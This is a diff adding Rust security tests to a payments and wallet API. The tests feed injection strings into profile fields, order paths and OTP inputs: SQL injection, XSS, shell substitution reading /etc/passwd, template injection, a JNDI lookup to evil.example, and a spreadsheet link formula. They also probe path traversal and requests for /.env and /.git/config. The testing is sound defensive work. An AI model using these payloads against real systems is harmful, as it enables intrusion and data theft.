@@ -395,3 +395,100 @@ async fn bodies_from_outside_are_not_taken_without_end() {
     app.send(unsigned).await.expect(200);
     assert_eq!(app.rows().await, before, "something was written");
 }
+
+/// What would be a command to somebody: a database, a page, a shell, a template, a formula, a format, a log.
+const COMMANDS: [&str; 12] = [
+    "'; DROP TABLE users; --",
+    "\" OR \"\"=\"",
+    "Robert\\'); SELECT pg_sleep(60); --",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "$(touch /tmp/x) `id` | cat /etc/passwd",
+    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
+    "${jndi:ldap://evil.example/a}",
+    "%s%n%x %(name)s {0} {}",
+    "=HYPERLINK(\"http://evil.example\")",
+    "*)(uid=*))(|(uid=*",
+    "(a+)+$ [[:alpha:]]* .*.*.*",
+];
+
+#[tokio::test]
+async fn what_would_be_a_command_elsewhere_is_a_text_here() {
+    let app = TestApp::start().await;
+    let person = app.person().await;
+    for command in COMMANDS {
+        let told = json!({ "first_name": command, "address": command, "employer": command });
+        person.patch("/user/profile", &told).await.expect(200);
+        let kept = person.get("/user/profile").await.expect(200).json;
+        for field in ["first_name", "address", "employer"] {
+            assert_eq!(kept[field], command);
+        }
+        // Where no such text can stand it is refused, and nothing else happens.
+        let told = json!({ "phone": command, "otp": command, "device_info": command });
+        app.post("/auth/otp/verify", &told).await.expect(400);
+        let path = format!(
+            "/payments/orders/{}",
+            percent_encoding::utf8_percent_encode(command, percent_encoding::NON_ALPHANUMERIC)
+        );
+        person.get(&path).await.expect_error(404, "ORDER_NOT_FOUND");
+        app.forget_limits().await;
+    }
+    person.get("/user/profile").await.expect(200);
+}
+
+#[tokio::test]
+async fn what_is_said_twice_is_refused() {
+    let app = TestApp::start().await;
+    let person = app.person().await;
+    let before = app.rows().await;
+    for path in [
+        "/payments/orders?limit=1&limit=2",
+        "/payments/orders?limit=1&limit=1",
+        "/wallet/statement?from=2026-01-01&to=2026-01-31&to=2026-01-30",
+    ] {
+        person.get(path).await.expect_error(400, "VALIDATION_ERROR");
+    }
+    for (method, path, body) in [
+        (Method::PATCH, "/user/profile", r#"{"first_name":"Asha","first_name":"Devi"}"#),
+        (Method::PATCH, "/user/profile", r#"{"first_name":"Asha","first\u005fname":"Devi"}"#),
+        (Method::POST, "/auth/step-up", r#"{"pin":"8305","pin":"8306"}"#),
+    ] {
+        let request =
+            person.request(method, path).header(header::CONTENT_TYPE, "application/json").body(body);
+        app.send(request).await.expect(400);
+    }
+    assert_eq!(app.rows().await, before, "something was written");
+}
+
+#[tokio::test]
+async fn methods_and_paths_that_nobody_listed_are_not_there() {
+    let app = TestApp::start().await;
+    let person = app.person().await;
+    let other = |method: &str| Method::from_bytes(method.as_bytes()).expect("a method");
+    for method in ["TRACE", "PUT", "DELETE", "PROPFIND", "INVENTED"] {
+        for path in ["/user/profile", "/wallet", "/health"] {
+            let answer = app.send(person.request(other(method), path)).await;
+            answer.expect_error(405, "METHOD_NOT_ALLOWED");
+        }
+    }
+    // Nothing of the machine, of the program's own insides, or of its making.
+    for path in [
+        "/metrics",
+        "/.git/config",
+        "/.env",
+        "/admin",
+        "/debug/pprof",
+        "/actuator",
+        "/server-status",
+        "/static/",
+        "/wallet/..%2f..%2fetc%2fpasswd/balance",
+        "/%2e%2e/%2e%2e/etc/passwd",
+        "//etc/passwd",
+    ] {
+        let answer = person.get(path).await;
+        assert_eq!(answer.status, 404, "{path}: {}", answer.text);
+        let server =
+            answer.headers.keys().any(|name| matches!(name.as_str(), "server" | "x-powered-by" | "via"));
+        assert!(!server, "{path} tells what answers");
+    }
+}
